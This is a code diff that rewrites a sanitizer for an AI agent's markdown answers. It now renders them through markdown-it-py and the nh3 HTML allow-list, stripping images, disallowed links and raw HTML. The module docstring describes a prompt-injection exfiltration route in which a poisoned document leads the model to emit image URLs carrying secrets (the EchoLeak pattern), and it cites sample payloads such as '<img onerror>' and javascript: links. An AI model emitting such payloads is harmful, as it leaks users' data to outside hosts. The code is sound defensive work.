@@ -1,12 +1,17 @@
-"""Make answer text safe to render as markdown (SECURITY.md row 11).
+"""Make answer text safe to show (SECURITY.md row 11): markdown in, allow-listed HTML out.
 
 An answer may carry text the model copied from a poisoned document: raw HTML (``<img onerror>``),
 images whose URL leaks data on load (``![](https://x/?q=SECRET)``, the EchoLeak pattern), or
-``javascript:`` links. Streamlit renders markdown with raw HTML off, but we do not rely on that
-alone: every image and every link whose host is not on the allow-list is removed before rendering,
-``<`` is escaped so no tag can form, and ``$`` is escaped so amounts are not read as LaTeX. The
-result is then parsed again with a real CommonMark parser; if anything active survived (an HTML
-token, a disallowed link or image), the caller shows the text as plain text instead.
+``javascript:`` links. Two libraries do the work, each on its own terms:
+
+1. markdown-it-py parses the answer as CommonMark (tables, strikethrough) with raw HTML *off*, so a
+   tag in the text is text. On its tokens every image is replaced by a note (images are never
+   loaded: a load is an outbound request), every link whose URL is not on the allow-list keeps only
+   its text, and a bare URL that is not allowed is taken out of the prose.
+2. nh3 (Ammonia) cleans the rendered HTML against an allow-list of tags and attributes, with
+   ``href`` checked against the same URL allow-list — the second wall if the first one had a gap.
+
+The result is HTML for ``st.html`` (which runs DOMPurify on it once more in the browser).
 """
 
 from __future__ import annotations
@@ -14,29 +19,37 @@ from __future__ import annotations
 import html
 import re
 import unicodedata
-from collections.abc import Iterable
+from collections.abc import Iterable, Sequence
 from dataclasses import dataclass, field
+from functools import lru_cache
+from typing import Any
 from urllib.parse import urlsplit
 
-# Hosts an answer may link to (official filing sources). Images are never loaded from anywhere:
-# the app has no need for remote images, and an image load is an outbound request.
+# Hosts an answer may link to (official filing sources). Images are never loaded from anywhere.
 DEFAULT_LINK_HOSTS: tuple[str, ...] = ("www.sec.gov", "sec.gov", "efts.sec.gov")
 
-# Code spans/fences are copied through untouched: nothing inside them is active.
-_CODE = re.compile(r"(```.*?(?:```|$)|~~~.*?(?:~~~|$)|(`+)(?!`).*?(?<!`)\2(?!`))", re.DOTALL)
-# An inline image or link: optional "!", bracketed text (one nesting level), then a destination.
-_INLINE = re.compile(
-    r"(?P<bang>!?)\[(?P<text>(?:[^\[\]]|\[[^\[\]]*\])*)\]\((?P<dest>(?:[^()\s]|\([^()]*\))*)"
-    r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
+# What CommonMark + tables + strikethrough renders to, minus images; nothing else survives nh3.
+ALLOWED_TAGS = frozenset(
+    {"p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"}
+    | {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
 )
-# Angle-bracket destinations ``[x](<javascript:...>)`` and autolinks ``<https://...>``.
-_ANGLE_INLINE = re.compile(r"(?P<bang>!?)\[(?P<text>[^\[\]]*)\]\(\s*<(?P<dest>[^>]*)>[^)]*\)")
-_AUTOLINK = re.compile(r"<(?P<dest>[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\s]*)>")
-# Reference definitions ``[id]: url`` (links and images that use them are then left dangling).
-_REFDEF = re.compile(r"^[ ]{0,3}\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)
-_REF_IMAGE = re.compile(r"!\[(?P<text>[^\[\]]*)\]\[[^\]]*\]")
-# Bare URLs that GitHub-flavoured markdown turns into links by itself.
-_BARE_URL = re.compile(r"(?i)\b(?:https?://|ftp://|www\.)[^\s<>()\[\]]+")
+ALLOWED_ATTRIBUTES: dict[str, set[str]] = {
+    "a": {"href", "title"},
+    "ol": {"start"},
+    "th": {"style"},  # column alignment only (filtered to text-align below)
+    "td": {"style"},
+}
+LINK_REL = "noopener noreferrer nofollow"
+
+# Bare URLs (and script-like schemes) in prose: not links once rendered, but shown and copyable.
+_BARE_URL = re.compile(
+    r"(?i)\b(?:https?://|ftp://|www\.)[^\s<>()\[\]]+|\b(?:javascript|vbscript|data):[^\s<>]*"
+)
+# A link CommonMark refused to make (``[x](javascript:...)``) stays as literal text: keep the text.
+_REFUSED_LINK = re.compile(
+    r"(?i)\[(?P<text>[^\[\]]*)\]\(\s*<?\s*(?P<dest>(?:javascript|vbscript|data|file):"
+    r"(?:[^()\s>]|\([^()]*\))*)>?[^)]*\)"
+)
 _EMAIL = re.compile(r"\b[\w.+-]+@[\w-]+\.[\w.-]+\b")
 _CONTROL = re.compile(
     r"[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u200b-\u200f\u202a-\u202e"
@@ -46,17 +59,15 @@ _CONTROL = re.compile(
 
 @dataclass(frozen=True)
 class SafeMarkdown:
-    """Sanitized markdown and what was taken out of it (shown to the reader as a note)."""
+    """An answer as allow-listed HTML, and what was taken out of it (shown as a note)."""
 
-    text: str
+    html: str
     removed: tuple[str, ...] = field(default_factory=tuple)
-    inert: bool = True  # False: a second parse still found something active; render as plain text
 
 
 def link_allowed(url: str, hosts: Iterable[str] = DEFAULT_LINK_HOSTS) -> bool:
     """True for an ``https``/``http`` URL whose host is on the allow-list (entities decoded)."""
-    url = html.unescape(url).strip()
-    url = _CONTROL.sub("", url)
+    url = _CONTROL.sub("", html.unescape(url).strip())
     try:
         parts = urlsplit(url)
     except ValueError:
@@ -67,61 +78,89 @@ def link_allowed(url: str, hosts: Iterable[str] = DEFAULT_LINK_HOSTS) -> bool:
     return host in {h.lower() for h in hosts} and "@" not in parts.netloc
 
 
+@lru_cache(maxsize=1)
+def _parser() -> Any:
+    from markdown_it import MarkdownIt
+
+    # "html": False -> "<img onerror>" is a text token, escaped when rendered.
+    return MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
+
+
 def sanitize_markdown(text: str, *, link_hosts: Iterable[str] = DEFAULT_LINK_HOSTS) -> SafeMarkdown:
-    """Remove images, disallowed links and raw HTML from ``text``; escape ``<`` and ``$``.
+    """Render ``text`` (markdown) to HTML with no raw HTML, no images and only allowed links.
 
     Args:
         text: markdown written by the agent (possibly echoing document text).
         link_hosts: hosts links may point to; every other link keeps only its text.
 
     Returns:
-        The sanitized markdown, the removed items, and whether a re-parse found it inert.
+        The allow-listed HTML and a description of each item removed.
     """
+    import nh3
+
     hosts = tuple(link_hosts)
     removed: list[str] = []
     text = unicodedata.normalize("NFC", _CONTROL.sub("", text or ""))
-    pieces: list[str] = []
-    last = 0
-    for match in _CODE.finditer(text):
-        pieces.append(_clean_prose(text[last : match.start()], hosts, removed))
-        pieces.append(match.group(0))
-        last = match.end()
-    pieces.append(_clean_prose(text[last:], hosts, removed))
-    safe = "".join(pieces)
-    return SafeMarkdown(safe, tuple(removed), inert=is_inert(safe, hosts))
+    parser = _parser()
+    tokens = parser.parse(text)
+    for token in tokens:
+        if token.type == "inline" and token.children:
+            token.children = _clean_inline(token.children, hosts, removed)
+    rendered = parser.renderer.render(tokens, parser.options, {})
+
+    def keep_attribute(tag: str, name: str, value: str) -> str | None:
+        if name == "href" and not link_allowed(value, hosts):
+            return None
+        return value
+
+    clean = nh3.clean(
+        rendered,
+        tags=set(ALLOWED_TAGS),
+        attributes=ALLOWED_ATTRIBUTES,
+        attribute_filter=keep_attribute,
+        filter_style_properties={"text-align"},
+        url_schemes={"http", "https"},
+        link_rel=LINK_REL,
+        strip_comments=True,
+    )
+    return SafeMarkdown(clean, tuple(removed))
+
+
+def _clean_inline(children: Sequence[Any], hosts: tuple[str, ...], removed: list[str]) -> list[Any]:
+    """Inline tokens with images, disallowed links and disallowed bare URLs replaced by notes."""
+    from markdown_it.token import Token
+
+    out: list[Any] = []
+    dropped_links = 0  # depth of disallowed links we are inside (their close tags are dropped)
+    for child in children:
+        if child.type == "image":
+            src = str(child.attrGet("src") or "")
+            removed.append(f"image {src}")
+            alt = child.content.strip()
+            out.append(_text(Token, f"[image removed{': ' + alt if alt else ''}]"))
+        elif child.type == "link_open" and not link_allowed(
+            str(child.attrGet("href") or ""), hosts
+        ):
+            removed.append(f"link {child.attrGet('href')}")
+            dropped_links += 1
+        elif child.type == "link_close" and dropped_links:
+            dropped_links -= 1
+            out.append(_text(Token, " (link removed)"))
+        elif child.type == "text":
+            child.content = _clean_prose(child.content, hosts, removed)
+            out.append(child)
+        else:
+            out.append(child)
+    return out
+
+
+def _text(token_class: Any, content: str) -> Any:
+    token = token_class("text", "", 0)
+    token.content = content
+    return token
 
 
 def _clean_prose(text: str, hosts: tuple[str, ...], removed: list[str]) -> str:
-    def image(match: re.Match[str]) -> str:
-        removed.append(f"image {match.group('dest')}")
-        alt = match.group("text").strip()
-        return f"[image removed{': ' + alt if alt else ''}]"
-
-    def link(match: re.Match[str]) -> str:
-        if match.group("bang"):
-            return image(match)
-        dest = match.group("dest")
-        if link_allowed(dest, hosts):
-            return f"[{match.group('text')}]({dest})"
-        removed.append(f"link {dest}")
-        return f"{match.group('text')} (link removed)"
-
-    def ref_image(match: re.Match[str]) -> str:
-        removed.append("image (reference)")
-        alt = match.group("text").strip()
-        return f"[image removed{': ' + alt if alt else ''}]"
-
-    def refdef(match: re.Match[str]) -> str:
-        removed.append(f"reference {match.group(0).strip()}")
-        return ""
-
-    def autolink(match: re.Match[str]) -> str:
-        dest = match.group("dest")
-        if link_allowed(dest, hosts):
-            return f"[{dest}]({dest})"
-        removed.append(f"link {dest}")
-        return "(link removed)"
-
     def bare(match: re.Match[str]) -> str:
         url = match.group(0)
         if link_allowed(url, hosts):
@@ -129,43 +168,12 @@ def _clean_prose(text: str, hosts: tuple[str, ...], removed: list[str]) -> str:
         removed.append(f"link {url}")
         return "(link removed)"
 
-    # Repeat until stable: removing an outer link can expose an inner one ("[[a](x)](y)").
-    for _ in range(8):
-        before = text
-        text = _INLINE.sub(link, _ANGLE_INLINE.sub(link, text))
-        if text == before:
-            break
-    text = _REF_IMAGE.sub(ref_image, text)
-    text = _REFDEF.sub(refdef, text)
-    text = _AUTOLINK.sub(autolink, text)
-    # Split so allowed markdown links are not touched by the bare-URL pass.
-    parts = re.split(r"(\[[^\[\]]*\]\([^()\s]*\))", text)
-    text = "".join(p if i % 2 else _BARE_URL.sub(bare, p) for i, p in enumerate(parts))
-    text = _EMAIL.sub(lambda m: m.group(0).replace("@", " at "), text)
-    # No tag can open without "<"; "$" would start LaTeX math in Streamlit's markdown.
-    text = text.replace("<", "&lt;")
-    return re.sub(r"(?<!\\)\$", r"\\$", text)
+    def refused(match: re.Match[str]) -> str:
+        removed.append(f"link {match.group('dest')}")
+        return f"{match.group('text')} (link removed)"
 
-
-def is_inert(markdown: str, hosts: Iterable[str] = DEFAULT_LINK_HOSTS) -> bool:
-    """True when a CommonMark parse of ``markdown`` finds no HTML, no image, no disallowed link."""
-    from markdown_it import MarkdownIt
-
-    hosts = tuple(hosts)
-    parser = MarkdownIt("commonmark", {"html": True})
-    for token in parser.parse(markdown):
-        if token.type in ("html_block", "html_inline"):
-            return False
-        for child in token.children or ():
-            if child.type in ("html_inline", "image"):
-                return False
-            if child.type == "link_open" and not link_allowed(str(child.attrGet("href")), hosts):
-                return False
-            if child.type == "text" and any(
-                not link_allowed(u.group(0), hosts) for u in _BARE_URL.finditer(child.content)
-            ):
-                return False
-    return True
+    text = _BARE_URL.sub(bare, _REFUSED_LINK.sub(refused, text))
+    return _EMAIL.sub(lambda m: m.group(0).replace("@", " at "), text)
 
 
 # Characters that open a link, image, HTML, code, math or table in Streamlit's markdown, and ":"
